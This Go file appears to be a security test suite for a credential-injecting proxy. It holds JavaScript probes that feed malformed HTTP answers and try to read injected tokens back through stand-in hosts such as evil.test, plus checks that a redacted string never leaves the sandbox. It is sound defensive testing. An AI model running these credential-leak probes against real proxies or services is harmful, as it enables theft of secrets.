package attack

import (
	"fmt"
	"strings"
)

// lies are answers that no honest server gives.
func lies() []Attack {
	const token = "HTTPBIN_TOKEN"
	lie := func(mode string, j Judge, expected string) Attack {
		return Attack{
			Section: "B", Name: "answer: " + mode, Expected: expected, Judge: j, Seconds: 25,
			Code: fmt.Sprintf(`await show(fetch("https://httpbin.test/x/raw?t=TRIAL&mode=%s", auth(%q, { redirect: "manual", signal: AbortSignal.timeout(12000) })));`, mode, token),
		}
	}
	var list []Attack
	for _, mode := range []string{
		"status-text", "status-text-500", "cl-short", "cl-double", "cl-te", "cl-negative", "te-unknown", "chunk-extension", "until-eof", "http09", "bad-version", "bad-status",
		"bad-header", "bad-header-name", "header-fold", "header-nul", "two-answers", "early-hints", "switch", "switch-ws", "close",
	} {
		list = append(list, lie(mode, scrubbed(token, false), "no leak"))
	}
	for _, mode := range []string{"cl-long", "chunk-bad", "reset", "stall"} {
		list = append(list, lie(mode, broken, "no leak, never a complete answer"))
	}
	for _, mode := range []string{"endless-headers", "endless-status", "endless-trailers", "informational-flood", "mute"} {
		list = append(list, lie(mode, broken, "bounded, an error"))
	}
	return append(list,
		Attack{Section: "B", Name: "answer to the next request on a connection", Expected: "no mix-up", Judge: both(scrubbed(token, false), verdicts()),
			Code: `await show(fetch("https://httpbin.test/x/raw?t=TRIAL&mode=two-answers", auth("HTTPBIN_TOKEN"))); const text = await (await fetch("https://httpbin.test/x/ok?t=TRIAL")).text(); out({ status: 200, text, held: text === "ok" });`},
		Attack{Section: "B", Name: "abort in the middle, seen raw", Expected: "cut, not ended", Judge: verdicts(),
			Code: `const got = await raw("httpbin.test", "httpbin.test", "GET /x/raw?t=TRIAL&mode=reset HTTP/1.1\r\nHost: httpbin.test\r\nAuthorization: Bearer HTTPBIN_TOKEN\r\n\r\n", { ms: 4000 }); const [head, body = ""] = got.split("\r\n\r\n"); const len = /content-length: (\d+)/i.exec(head)?.[1]; const bad = head.startsWith("HTTP/1.1 502"); const complete = len !== undefined ? body.length >= Number(len) : /\r\n0\r\n/.test("\r\n" + body) || body.endsWith("0\r\n\r\n"); out({ held: bad || !complete, seen: bad ? "502" : complete ? "complete: " + got.slice(-80) : "cut" });`},
	)
}

// broken: the credential was sent, nothing leaked, and the code got no complete answer of status 200.
func broken(e *Evidence) (string, bool) {
	if seen, held := scrubbed("HTTPBIN_TOKEN", false)(e); !held {
		return seen, false
	}
	for _, l := range e.lines() {
		if l.Error == "" && l.Status < 500 {
			return fmt.Sprintf("a complete answer of %d bytes", l.Length), false
		}
	}
	return e.brief(), true
}

// elsewhere are credentials that come back through another host than they were sent to.
func elsewhere() []Attack {
	var list []Attack
	known := func(host, token, more string, yolo bool) Attack {
		return Attack{
			Section: "B", Name: fmt.Sprintf("%s read through %s %s", token, host, more), Expected: "scrubbed", YOLO: yolo, Judge: notEchoed(token),
			Code: fmt.Sprintf(`await show(fetch("https://%s/x/echo?t=TRIAL&what=known:%s&%s"));`, host, token, more),
		}
	}
	for _, token := range []string{"OTHER_TOKEN", "OFF_TOKEN", "STRICT_TOKEN", "HTTPBIN_BODY", "CERTS_TOKEN"} {
		list = append(list, known("httpbin.test", token, "", false))
	}
	list = append(list,
		known("httpbin.test", "OTHER_TOKEN", "place=header", false), known("httpbin.test", "OFF_TOKEN", "enc=zstd", false), known("a.wild.test", "HTTPBIN_HARD", "enc=br&frame=chunk1", false),
		known("evil.test", "HTTPBIN_TOKEN", "", true), known("evil.test", "HTTPBIN_HARD", "enc=gzip", true), known("evil.test", "OFF_TOKEN", "place=link", true), known("h2.evil.test", "OTHER_TOKEN", "", true),
		known("h2.evil.test", "OTHER_TOKEN", "frame=chunk1", true),
	)
	return append(list,
		Attack{Section: "B", Name: "a run narrowed to another API reads a foreign credential", Expected: "scrubbed", APIs: []string{"other"}, Judge: notEchoed("HTTPBIN_TOKEN"), Code: `await show(fetch("https://other.test/x/echo?t=TRIAL&what=known:HTTPBIN_TOKEN"));`},
		Attack{Section: "B", Name: "plain http answer with a foreign credential", Expected: "scrubbed", Judge: notEchoed("OTHER_TOKEN"), Code: `await show(fetch("http://plain.test/x/echo?t=TRIAL&what=known:OTHER_TOKEN"));`},
		Attack{Section: "B", Name: "reversed (cannot be caught)", Expected: "comes through: not promised", Judge: func(e *Evidence) (string, bool) { return "as documented", e.got("HTTPBIN_TOKEN") }, Code: `const t = await (await fetch("https://httpbin.test/x/echo?t=TRIAL&form=reverse", auth("HTTPBIN_TOKEN"))).text(); out({ status: 200, text: "" + t.length });`},
		Attack{Section: "B", Name: "redirect chain that carries the credential in Location", Expected: "scrubbed at each hop", Judge: scrubbed("HTTPBIN_TOKEN", false), Code: `const r = await fetch("https://httpbin.test/x/echo?t=TRIAL&place=location&status=302", auth("HTTPBIN_TOKEN")); out({ status: r.status, text: r.url + await r.text() });`},
		Attack{Section: "B", Name: "redacted string in a request", Expected: "never leaves", Judge: unredacted, Code: `await show(fetch("https://httpbin.test/anything/redact-me-please?t=TRIAL&a=redact-me-please", { method: "POST", headers: { "X-Note": "a redact-me-please b", "Content-Type": "text/plain" }, body: "hello redact-me-please end" }));`},
		Attack{Section: "B", Name: "redacted string in a chunked body, cut", Expected: "never leaves", Judge: unredacted, Code: `const body = new ReadableStream({ async start(c) { for (const ch of "xx redact-me-please yy") { c.enqueue(new TextEncoder().encode(ch)); await new Promise((d) => setTimeout(d, 2)); } c.close(); } }); await show(fetch("https://httpbin.test/x/sink?t=TRIAL", { method: "POST", headers: { "Content-Type": "text/plain" }, body }));`},
		Attack{Section: "B", Name: "redacted string as a host of a wildcard API", Expected: "refused, never asked for", Judge: refused("redacted_host"), Code: `await show(fetch("https://redact-me-please.wild.test/x/ok?t=TRIAL"));`},
		Attack{Section: "B", Name: "redacted string in a host under YOLO", Expected: "refused, never asked for", YOLO: true, Judge: refused("redacted_host"), Code: `await show(fetch("https://a.redact-me-please.evil.test/x/ok?t=TRIAL"));`},
		Attack{Section: "B", Name: "redacted string in a WebSocket message", Expected: "never leaves", Judge: unredacted, Code: `const s = new WebSocket("wss://httpbin.test/x/ws?t=TRIAL"); const got = []; await new Promise((d) => { s.onopen = () => s.send("say redact-me-please now"); s.onmessage = (m) => { got.push(m.data); if (got.length === 2) s.close(); }; s.onclose = d; s.onerror = d; setTimeout(() => { s.close(); d(); }, 2500); }); out({ status: 101, text: got.join("|").includes("redact-me-please") ? "came back" : got.join("|") });`},
	)
}

// redactMe is a REDACTING_STRINGS of the suite's worlds.
const redactMe = "redact-me-please"

// unredacted: what arrived does not hold the redacted string.
func unredacted(e *Evidence) (string, bool) {
	if len(e.Arrived) == 0 {
		return "did not arrive: " + e.brief(), false
	}
	for _, s := range e.Arrived {
		if strings.Contains(fmt.Sprint(s.Target, s.Header, string(s.Body)), redactMe) {
			return "the string arrived", false
		}
	}
	if strings.Contains(e.Result.Out, "came back") {
		return "the string came back", false
	}
	return "replaced before it left", true
}
